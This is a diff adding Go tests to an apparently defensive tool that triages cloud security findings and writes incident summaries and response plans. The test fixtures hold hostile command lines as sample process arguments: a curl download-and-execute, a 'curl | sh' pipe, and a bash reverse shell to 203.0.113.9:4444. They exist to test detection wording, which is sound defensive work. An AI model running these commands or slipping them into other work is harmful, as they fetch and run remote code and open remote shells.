@@ -38,6 +38,9 @@ func TestUnchecked(t *testing.T) {
 		}, "config: IAM policy not readable, so who may invoke is unknown"},
 		{"config_gone", func(_ *finding.Finding, e *evidence.Evidence) { e.Config = &evidence.Config{Gone: true} }, "config: the workload no longer exists, so its configuration could not be reviewed"},
 		{"config_guess", func(_ *finding.Finding, e *evidence.Evidence) { e.Config.RevisionSource = "latest" }, "config: the finding names no revision; pay-00042-abc was reviewed, which is a guess"},
+		{"config_guess_job", func(f *finding.Finding, e *evidence.Evidence) {
+			f.Workload.Kind, e.Config.RevisionSource = finding.Job, "latest"
+		}, "config: the finding names no execution; pay-00042-abc was reviewed, which is a guess"},
 		{"findings_not_asked", func(_ *finding.Finding, e *evidence.Evidence) { e.FindingsState = evidence.Status{} }, "related findings: not asked"},
 		{"findings_timeout", func(_ *finding.Finding, e *evidence.Evidence) { e.FindingsState.State = evidence.Timeout }, "related findings: no answer in time"},
 		{"no_process", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes = nil }, "process: the finding carries no process"},
@@ -105,6 +108,69 @@ func TestSummary(t *testing.T) {
 		if !strings.Contains(got, want) {
 			t.Errorf("summary lacks %q: %s", want, got)
 		}
+	}
+}
+
+// TestSummaryWords holds who is said to have done what.
+func TestSummaryWords(t *testing.T) {
+	t.Parallel()
+	p := mustDefault(t)
+	fetched := childShell("sh", "/var/tmp/upd")
+	fetched.Category, fetched.Processes[0].Name = "Execution: Added Malicious Binary Executed", "sh"
+	fetched.Processes[0].Binary.Path, fetched.Processes[0].Args = "/bin/dash", []string{"sh", "-c", "curl -s http://203.0.113.9/x -o /var/tmp/upd; chmod 755 /var/tmp/upd; /var/tmp/upd"}
+	fetched.Processes[1].Name, fetched.Processes[1].Binary.Path = "upd", "/var/tmp/upd"
+	distant := childShell("sh", "sh", "-c", "id")
+	distant.Processes = append(distant.Processes, finding.Process{Name: "wget", PID: 30, ParentPID: 5, Args: []string{"sh", "-c", "curl http://203.0.113.9/x | sh"}})
+	alone := childShell("x", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
+	alone.Processes = alone.Processes[1:]
+	dash := childShell("java", "sh", "-c", "id")
+	dash.Processes[1].Binary.Path = "/usr/bin/dash"
+	hidden := childShell("java", "x", "-c", "id")
+	hidden.Processes[1].Name, hidden.Processes[1].Binary.Path = "nginx", "/tmp/.x"
+	gone := complete()
+	gone.Config, gone.ConfigState = &evidence.Config{Gone: true}, evidence.Status{State: evidence.Empty}
+	blind := complete()
+	blind.Logs, blind.LogsState = evidence.Logs{}, evidence.Status{State: evidence.Empty}
+	long := "a-very-long-name.of-somebody.who-deploys-things@engineering.example.com"
+	robot := "123456789012-compute@developer.gserviceaccount.com"
+	call := &finding.Finding{Category: "Impact: Cryptomining Commands", EventTime: event(), Access: finding.Access{Principal: robot, MethodName: "x.RunJob"}, Workload: dash.Workload}
+	longDeploy := deployed(complete(), long, 3)
+	longDeploy.Config.Creator, longDeploy.LogsState = long, evidence.Status{State: evidence.Denied}
+	robotDeploy := deployed(complete(), robot, 3)
+	robotDeploy.Config.Creator, robotDeploy.LogsState = robot, evidence.Status{State: evidence.Denied}
+	start := func() *finding.Finding { return childShell("java", "sh", "-c", "./docker-entrypoint.sh") }
+	tests := []struct {
+		name      string
+		f         *finding.Finding
+		e         *evidence.Evidence
+		has, lack string
+	}{
+		{"the parent fetched", fetched, complete(), ": sh, which fetches code from the network and runs it, started upd in ", "upd, which fetches"},
+		{"another process fetched", distant, complete(), ": sh started sh; wget fetches code from the network and runs it in ", "sh, which fetches"},
+		{"a process alone", alone, complete(), ": bash ", " ran, which"},
+		{"the name as in the tree", dash, complete(), ": java started sh, which", "dash"},
+		{"a name that hides a file", hidden, complete(), "java started nginx (.x)", ""},
+		{"gone", dash, gone, " The service no longer exists.", "contain the workload"},
+		{"logs not visible", dash, blind, " No logs visible.", "Not checked: logs"},
+		{"a long principal", start(), longDeploy, "ask " + long + " whether", ""},
+		{"a service account is not asked", start(), robotDeploy, "ask the owner whether", "ask 1234"},
+		{"a service account that called", call, complete(), robot + " called RunJob", ""},
+	}
+	for _, tt := range tests {
+		got := p.Assess(input(tt.f, tt.e)).Summary
+		if !strings.Contains(got, tt.has) || tt.lack != "" && strings.Contains(got, tt.lack) {
+			t.Errorf("%s: summary lacks %q or has %q: %s", tt.name, tt.has, tt.lack, got)
+		}
+	}
+	for _, e := range []*evidence.Evidence{longDeploy, robotDeploy} {
+		for _, st := range p.Assess(input(start(), e)).Plan {
+			if st.ID == "contact_owner" && strings.Contains(st.Title, "gserviceaccount.com") {
+				t.Errorf("the plan asks a service account: %s", st.Title)
+			}
+		}
+	}
+	if got := p.Assess(input(childShell("java", "sh", "-c", "id; uname -a"), complete())).Reading.Hits; len(got) == 0 || strings.Contains(got[0].Text, "; ;") {
+		t.Errorf("hits %+v", got)
 	}
 }
 
